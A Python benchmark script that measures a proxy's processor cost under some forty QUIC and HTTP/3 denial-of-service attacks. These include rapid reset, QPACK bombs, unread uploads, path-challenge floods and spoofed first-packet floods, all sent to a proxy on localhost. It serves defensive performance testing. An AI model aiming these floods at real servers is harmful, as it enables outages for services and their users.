#!/usr/bin/env python3
"""Measures the cost of QUIC and HTTP/3 attacks for a proxy: processor time per megabyte that an attacker sends.

    bench/h3_attacks.py PROXY [PROXY...] [--megabytes 1] [--rounds 3] [--only NAME[;NAME...]] [--rows]

Every proxy runs the same configuration with one thread on the first processor. It answers by itself, except in attacks "to a server",
whose server never responds. An attacker on the second processor completes handshakes with aioquic, then seals packets with any frames
itself. It sends as fast as the proxy empties its socket, and opens another connection whenever one ends. Prints for each attack:
milliseconds of processor time (user and system) per megabyte of UDP payload that the attacker has sent, as the median of all rounds, in
which the proxies alternate; the number of connections; bytes that the proxy sends for each byte received (at most 3.0 for addresses
that are not validated); memory that the attack adds; and the ratio of the first proxy's time to the last one's. `--rows` prints
rows of a Markdown table.

Needs aioquic, cryptography, and proxies with QUIC; ends with a notice if aioquic is missing. Linux only; nothing is changed outside of a
temporary folder. Spoofed addresses are those of 127.0.0.0/8.
"""

import sys

import argparse
import importlib.util
import logging
import multiprocessing
import os
import random
import select
import socket
import ssl
import statistics
import subprocess
import tempfile
import time

try:
    from aioquic import tls
    from aioquic.quic.configuration import QuicConfiguration
    from aioquic.quic.connection import QuicConnection
except ImportError:
    tls = QuicConfiguration = None
    QuicConnection = object

FOLDER = os.path.dirname(os.path.abspath(__file__))
SPEC = importlib.util.spec_from_file_location("h2_attacks", os.path.join(FOLDER, "h2_attacks.py"))
h2 = importlib.util.module_from_spec(SPEC)
SPEC.loader.exec_module(h2)

CONFIG = """global
    nbthread 1
    maxconn 5000
    cluster-secret attacks
defaults
    mode http
    timeout connect 5s
    timeout client 10s
    timeout server 10s
    timeout http-request 10s
    timeout client-hs 5s
frontend f
    bind quic4@127.0.0.1:{port} ssl crt {certificate} alpn h3
    bind 127.0.0.1:{port}
    use_backend servers if {{ path -m beg /s }}
    http-request return status 200 content-type text/plain string x unless {{ path -m beg /s }}
backend servers
    server s 127.0.0.1:{server}
"""

# Size of a packet's frames, and of a client's first datagram.
ROOM, FIRST = 1100, 1200
# Packets sent until the proxy has to empty its socket.
BURST = 32
# A path that the proxy answers, and one that goes to a server that never answers.
OWN, SERVER = b"/", b"/s"
# Waits for another stream, of at most 5 ms each, after which an attacker opens another connection.
MOST_WAITS = 30
# Minimum processor time in seconds for a meaningful measurement.
LEAST = 0.03


def varint(value):
    for size, mark in ((1, 0), (2, 0x40), (4, 0x80), (8, 0xC0)):
        if value < 1 << (8 * size - 2):
            data = bytearray(value.to_bytes(size, "big"))
            data[0] |= mark
            return bytes(data)
    raise ValueError(value)


def frame(kind, payload=b""):
    """An HTTP/3 frame."""
    return varint(kind) + varint(len(payload)) + payload


def head(path, post=False, more=b""):
    """A HEADERS frame with a request."""
    pseudo = (b"\xd4" if post else b"\xd1") + b"\xd7\x50\x01a"
    pseudo += b"\xc1" if path == OWN else b"\x51" + bytes([len(path)]) + path
    return frame(1, b"\0\0" + pseudo + more)


def stream(number, offset, data, ends=False):
    """A STREAM frame."""
    return bytes([0x0E | ends]) + varint(number) + varint(offset) + varint(len(data)) + data


def reset(number, size):
    return b"\x04" + varint(number) + varint(0x10C) + varint(size)


def stop(number):
    return b"\x05" + varint(number) + varint(0x10C)


SETTINGS = b"\0" + frame(4)


class Handshake(QuicConnection):
    """Completes handshakes, and ignores frames that concern streams and packets sealed elsewhere."""

    def _handle_stream_frame(self, context, kind, buffer):
        buffer.pull_uint_var()
        if kind & 4:
            buffer.pull_uint_var()
        buffer.pull_bytes(buffer.pull_uint_var() if kind & 2 else buffer.capacity - buffer.tell())

    def _handle_reset_stream_frame(self, context, kind, buffer):
        for _ in range(3):
            buffer.pull_uint_var()

    def _handle_stop_sending_frame(self, context, kind, buffer):
        buffer.pull_uint_var()
        buffer.pull_uint_var()

    _handle_max_stream_data_frame = _handle_stream_data_blocked_frame = _handle_stop_sending_frame

    def _handle_retire_connection_id_frame(self, context, kind, buffer):
        buffer.pull_uint_var()

    def _handle_path_response_frame(self, context, kind, buffer):
        buffer.pull_bytes(8)


class Connection:
    """A client's connection. The handshake is aioquic's; packets after it are sealed here."""

    def __init__(self, port, source="127.0.0.1", token=b""):
        self.port = port
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind((source, 0))
        self.socket.connect(("127.0.0.1", port))
        self.socket.setblocking(False)
        configuration = QuicConfiguration(is_client=True, alpn_protocols=["h3"], verify_mode=ssl.CERT_NONE)
        configuration.max_data, configuration.max_stream_data = 1 << 40, 1 << 18
        configuration.token = token
        self.quic = Handshake(configuration=configuration)
        self.quic.connect(("127.0.0.1", port), time.monotonic())
        self.sent = self.received = 0
        self.number, self.ended = None, False

    def close(self):
        self.socket.close()

    def flush(self):
        """Sends what aioquic has to send."""
        for data, _ in self.quic.datagrams_to_send(time.monotonic()):
            self.put(data)

    def put(self, data):
        try:
            self.sent += self.socket.send(data)
        except OSError:
            self.ended = True

    def receive(self):
        """Processes the datagrams that have arrived."""
        while True:
            try:
                data = self.socket.recv(65536)
            except BlockingIOError:
                break
            except OSError:
                self.ended = True
                break
            self.received += len(data)
            self.quic.receive_datagram(data, ("127.0.0.1", self.port), time.monotonic())
        while event := self.quic.next_event():
            if type(event).__name__ == "ConnectionTerminated":
                self.ended = True
        self.ended = self.ended or self.quic._close_event is not None

    def shake(self, timeout=2):
        """Completes the handshake. Returns whether it did."""
        end = time.monotonic() + timeout
        self.flush()
        while time.monotonic() < end and not self.ended:
            select.select([self.socket], [], [], 0.2)
            self.receive()
            self.flush()
            if self.quic._handshake_confirmed:
                self.number = self.quic._packet_number
                return True
        return False

    def seal(self, frames):
        """Sends a packet with these frames."""
        quic = self.quic
        crypto = quic._cryptos[tls.Epoch.ONE_RTT]
        header = bytes([0x41 | crypto.key_phase << 2]) + quic._peer_cid.cid + (self.number & 0xFFFF).to_bytes(2, "big")
        self.put(crypto.encrypt_packet(header, frames, self.number))
        self.number += 1

    def acknowledge(self):
        """Acknowledges what has arrived, so that the proxy is not held back by its congestion window."""
        self.receive()
        if not self.ended:
            # The packets of aioquic and those sealed here have one sequence of numbers.
            self.quic._packet_number = self.number
            self.flush()
            self.number = self.quic._packet_number

    def most_streams(self):
        return self.quic._remote_max_streams_bidi


def waits(port):
    """Whether datagrams wait at the proxy's socket."""
    suffix = f":{port:04X}"
    with open("/proc/net/udp") as table:
        for line in table:
            fields = line.split()
            if fields[1].endswith(suffix) and not fields[4].endswith(":00000000"):
                return True
    return False


def drain(port, timeout=1.0):
    end = time.monotonic() + timeout
    while waits(port) and time.monotonic() < end:
        pass


def over_streams(make):
    """An attack on a connection that begins streams: `make` returns the frames of a stream, by its number."""

    def frames(connection):
        begun = 0
        while not connection.ended:
            if begun >= connection.most_streams():
                yield None
                continue
            yield make(4 * begun)
            begun += 1

    return frames


def repeated(piece, opening=b""):
    """An attack that repeats the same frames of QUIC."""

    def frames(connection):
        if opening:
            yield opening
        while not connection.ended:
            yield piece

    return frames


def on_stream(number, first, piece, most=200_000):
    """An attack that appends the same bytes to a stream."""

    def frames(connection):
        offset, data = 0, first
        while not connection.ended:
            if offset >= most:
                return
            yield stream(number, offset, data)
            offset += len(data)
            data = piece

    return frames


def numbered(make):
    """An attack whose frames depend on their number."""

    def frames(connection):
        count = 0
        while not connection.ended:
            yield make(count)
            count += 1

    return frames


def gapped(connection):
    """Bytes of a request's body with a gap after each."""
    start = head(SERVER, post=True) + frame(0, bytes(60_000))[:4]
    yield stream(0, 0, start)
    for offset in range(len(start) + 1, 50_000, 2):
        if connection.ended:
            return
        yield stream(0, offset, b"x")


def upload(connection):
    """Request bodies of which the proxy's server reads nothing, as far as the windows permit."""
    begun = 0
    while not connection.ended and begun < connection.most_streams():
        start = head(SERVER, post=True) + varint(0) + varint(1 << 20)
        yield stream(4 * begun, 0, start)
        offset, window = len(start), connection.quic._remote_max_stream_data_bidi_remote
        while offset + 1000 < window and not connection.ended:
            yield stream(4 * begun, offset, bytes(1000))
            offset += 1000
        begun += 1


def get(number, path=OWN, more=b""):
    return stream(number, 0, head(path, more=more), True)


def cancelled(number, path=OWN):
    data = head(path)
    return stream(number, 0, data) + reset(number, len(data))


def body(number, length):
    return stream(number, 0, head(OWN, True, b"\x54\x01" + length) + frame(0, b"ab"), True)


BOMB = b"\xdf" * 1000
NEW_ID = bytes(range(8)) + bytes(16)

# Frames that an attacker sends on a connection after the handshake.
ATTACKS = {
    "requests": over_streams(get),
    "requests, to a server": over_streams(lambda number: get(number, SERVER)),
    "rapid reset": over_streams(cancelled),
    "rapid reset, to a server": over_streams(lambda number: cancelled(number, SERVER)),
    "answers stopped": over_streams(lambda number: get(number) + stop(number)),
    "answers stopped, to a server": over_streams(lambda number: get(number, SERVER) + stop(number)),
    "streams that begin with a reset": over_streams(lambda number: reset(number, 0)),
    "empty requests": over_streams(lambda number: stream(number, 0, b"", True)),
    "streams without an end, to a server": over_streams(lambda number: stream(number, 0, head(SERVER, True))),
    "lengths that lie": over_streams(lambda number: body(number, b"1")),
    "lengths too short": over_streams(lambda number: body(number, b"3")),
    "upper case": over_streams(lambda number: get(number, more=b"\x21B\x01c")),
    "no fields": over_streams(lambda number: stream(number, 0, frame(1, b"\0\0"), True)),
    "qpack bombs": over_streams(lambda number: get(number, more=BOMB)),
    "many fields": over_streams(lambda number: get(number, more=b"\x21b\x01c" * 90)),
    "static index 99": over_streams(lambda number: stream(number, 0, frame(1, b"\0\0\xff\x24"), True)),
    "frames longer than their stream": over_streams(lambda number: stream(number, 0, b"\x01\xbf\xff\xff\xffabc", True)),
    "priority updates": on_stream(2, SETTINGS, (varint(0xF0700) + b"\x04\0u=1") * 60),
    "settings twice": on_stream(2, SETTINGS, frame(4) * 200),
    "push limits": on_stream(2, SETTINGS, frame(0x0D, b"\x01") * 200),
    "unknown frames": on_stream(2, SETTINGS, frame(0x21) * 300),
    "cancellations of qpack": on_stream(2, b"\x03", b"\x44" * 1000),
    "capacities of 0": on_stream(2, b"\x02", b"\x20" * 1000),
    "empty payload": on_stream(0, head(OWN, True), frame(0) * 400),
    "payload byte by byte": on_stream(0, head(SERVER, True), frame(0, b"x") * 300),
    "unknown frames of a stream": on_stream(0, head(OWN, True), frame(0x21) * 300),
    "gapped streams": gapped,
    "uploads that are not read": upload,
    "the same bytes again": repeated(stream(0, 0, head(SERVER, True)) * 20),
    "pings": repeated(b"\x01" * 1000),
    "padding": repeated(bytes(1000)),
    "acknowledgments": repeated(b"\x02\0\0\0\0" * 200),
    "path challenges": numbered(lambda count: b"\x1a" + count.to_bytes(8, "big")),
    "path challenges, 1 in a packet": numbered(lambda count: b"\x1a" + count.to_bytes(8, "big") + bytes(1000)),
    "path responses": repeated(b"\x1b" + bytes(8)),
    "new ids": numbered(lambda count: b"\x18" + varint(count + 9) + varint(count + 9) + b"\x08" + count.to_bytes(8, "big") + NEW_ID[8:]),
    "retirements": repeated(b"\x19\x00"),
    "windows": numbered(lambda count: b"\x10" + varint((1 << 20) + count)),
    "windows of streams": numbered(lambda count: b"\x11\0" + varint((1 << 20) + count)),
    "blocked": repeated(b"\x14" + varint(1000)),
    "crypto": numbered(lambda count: b"\x06" + varint(2 * count + 1) + b"\x01x"),
    "unknown frame type": repeated(b"\x3f"),
}


def play(port, make, most, end, connections):
    """Sends at most `most` bytes on a connection, until `end`."""
    connection = Connection(port)
    connections.append(connection)
    if not connection.shake():
        return
    stuck, packet, packets = 0, b"", 0
    for frames in make(connection):
        if frames is None:
            stuck += 1
            if packet:
                connection.seal(packet)
                packet = b""
            drain(port)
            connection.acknowledge()
            if connection.ended or stuck > MOST_WAITS or time.monotonic() > end:
                break
            time.sleep(0.0005 * min(stuck, 10))
            continue
        stuck = 0
        if packet and len(packet) + len(frames) > ROOM:
            connection.seal(packet)
            packet, packets = b"", packets + 1
            if packets % BURST == 0:
                drain(port)
                connection.acknowledge()
            if connection.sent >= most or time.monotonic() > end:
                break
        packet += frames
    if packet and not connection.ended:
        connection.seal(packet)
    drain(port)
    connection.acknowledge()


def on_connections(make):
    def run(port, options, spent):
        connections = []
        most, end = options.megabytes * 1e6, time.monotonic() + options.longest
        sent = 0
        while (sent < most or spent() < LEAST) and time.monotonic() < end:
            play(port, make, max(most - sent, most / 2), end, connections)
            sent = sum(one.sent for one in connections)
        return connections

    return run


def first_datagrams(port, count, token=b""):
    """The first datagrams of connections from addresses of 127.0.0.0/8."""
    made = []
    for _ in range(count):
        source = f"127.{random.randrange(1, 255)}.{random.randrange(256)}.{random.randrange(1, 255)}"
        connection = Connection(port, source, token)
        made.append((connection, connection.quic.datagrams_to_send(time.monotonic())))
    return made


def flood_of_first(token=lambda: b"", change=lambda data: data, count=300, repeats=False):
    """First datagrams whose answers are not read. Those that begin no connection may be repeated."""

    def run(port, options, spent):
        made = [one for _ in range(count) for one in first_datagrams(port, 1, token())]
        while True:
            for index, (connection, datagrams) in enumerate(made):
                for data, _ in datagrams:
                    connection.put(change(data))
                if index % 8 == 7:
                    drain(port)
            drain(port)
            if not repeats or spent() > 3 * LEAST:
                break
        # Answers are repeated until their number is limited.
        time.sleep(options.rest)
        for connection, _ in made:
            while True:
                try:
                    connection.received += len(connection.socket.recv(65536))
                except OSError:
                    break
        return [connection for connection, _ in made]

    return run


def flood(make):
    """Datagrams of one address that begin no connection."""

    def run(port, options, spent):
        connection = Connection(port)
        most, end = options.megabytes * 1e6, time.monotonic() + options.longest
        while (connection.sent < most or spent() < LEAST) and time.monotonic() < end:
            for _ in range(BURST):
                connection.put(make())
            drain(port)
            while True:
                try:
                    connection.received += len(connection.socket.recv(65536))
                except OSError:
                    break
        return [connection]

    return run


def handshakes(port, options, spent):
    """Handshakes that are completed, after which the client is silent."""
    connections, end = [], time.monotonic() + options.longest
    while len(connections) < 200 and time.monotonic() < end:
        connection = Connection(port)
        connection.shake()
        connections.append(connection)
    return connections


def unknown_version():
    return b"\xc0\x1a\x2a\x3a\x4a\x08" + random.randbytes(8) + b"\x08" + bytes(8) + bytes(FIRST - 23)


def broken(data):
    """Changes the sealed part of a datagram."""
    return data[:100] + bytes([data[100] ^ 1]) + data[101:]


FLOODS = {
    "handshakes": handshakes,
    "first packets": flood_of_first(),
    "first packets with a bad token": flood_of_first(lambda: random.randbytes(64)),
    "first packets that are not authentic": flood_of_first(change=broken, repeats=True),
    "first packets that are short": flood_of_first(change=lambda data: data[:1100], repeats=True),
    "garbage": flood(lambda: random.randbytes(FIRST)),
    "garbage of 20 bytes": flood(lambda: random.randbytes(20)),
    "packets of unknown connections": flood(lambda: b"\x40" + random.randbytes(99)),
    "unknown versions": flood(unknown_version),
    "datagrams of 1 byte": flood(lambda: b"\x40"),
}

ALL = {**{name: on_connections(make) for name, make in ATTACKS.items()}, **FLOODS}


class Proxy(h2.Proxy):
    """A proxy that runs with the configuration."""

    def __init__(self, program, folder, server):
        self.program, (self.port,) = program, h2.free_ports(1)
        path = os.path.join(folder, f"proxy{self.port}")
        certificate = os.path.join(folder, "certificate.pem")
        with open(path, "w") as file:
            file.write(CONFIG.format(port=self.port, server=server, certificate=certificate))
        command = ["taskset", "-c", "0", program, "-db", "-f", path]
        self.process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def write_certificate(folder):
    """Writes a certificate for `a` with an ECDSA key."""
    spec = importlib.util.spec_from_file_location("certificates", os.path.join(FOLDER, "certificates.py"))
    certificates = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(certificates)
    key = certificates.key_of("h3_attacks")
    name = certificates.name("a")
    builder = certificates.x509.CertificateBuilder().subject_name(name).issuer_name(name).serial_number(7)
    builder = builder.public_key(key.public_key()).not_valid_before(certificates.BEGIN).not_valid_after(certificates.END)
    signed = builder.sign(key, certificates.hashes.SHA256())
    with open(os.path.join(folder, "certificate.pem"), "w") as file:
        file.write(certificates.pem(signed) + certificates.pem(key))


def measure(proxy, run, options):
    """Returns ms per megabyte, connections, bytes sent for a byte received, and bytes of memory for a connection."""
    pid = proxy.process.pid
    before, resident = h2.cpu(pid), h2.memory(pid)
    connections = run(proxy.port, options, lambda: h2.cpu(pid) - before)
    spent, held = h2.cpu(pid) - before, h2.memory(pid) - resident
    sent = max(sum(one.sent for one in connections), 1)
    received = sum(one.received for one in connections)
    for one in connections:
        one.close()
    return spent * 1e9 / sent, len(connections), received / sent, held


def compare(options, chosen, folder, server):
    for name, run in chosen.items():
        found = [[] for _ in options.proxies]
        for _ in range(options.rounds):
            for program, measured in zip(options.proxies, found):
                with Proxy(program, folder, server) as proxy:
                    measured.append(measure(proxy, run, options))
                    proxy.check()
        median = [[statistics.median(column) for column in zip(*rounds)] for rounds in found]
        ratio = median[0][0] / max(median[-1][0], 1e-9)
        if options.rows:
            cells = [f"{time:.1f} | {answered:.1f} | {held / 1024:.0f}" for time, _, answered, held in median]
            print(f"| {name} | " + " | ".join(cells) + f" | {ratio:.2f} |", flush=True)
            continue
        cells = [
            f"{time:7.1f} ms ({count:4.0f} connections, {answered:4.1f} bytes each, {held / 1024:6.0f} KB)"
            for time, count, answered, held in median
        ]
        print(f"{name:36} {', '.join(cells)}   {ratio:5.2f}", flush=True)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("proxies", nargs="+")
    parser.add_argument("--megabytes", type=float, default=1)
    parser.add_argument("--rounds", type=int, default=3)
    parser.add_argument("--longest", type=float, default=4, help="seconds of one measurement at most")
    parser.add_argument("--rest", type=float, default=3, help="seconds in which answers to first packets are counted")
    parser.add_argument("--only", help="names, separated by semicolons")
    parser.add_argument("--rows", action="store_true")
    options = parser.parse_args()
    if tls is None:
        sys.exit("skipped: aioquic is not installed (pip install aioquic)")
    names = options.only.split(";") if options.only else list(ALL)
    chosen = {name: ALL[name] for name in names}
    # Reasons for which proxies end connections are part of the attacks.
    logging.disable()
    os.sched_setaffinity(0, {1})
    (server_port,) = h2.free_ports(1)
    server = multiprocessing.Process(target=h2.silent_server, args=(server_port,), daemon=True)
    server.start()
    h2.wait_for(server_port)
    with tempfile.TemporaryDirectory() as folder:
        write_certificate(folder)
        compare(options, chosen, folder, server_port)
    server.terminate()


if __name__ == "__main__":
    main()
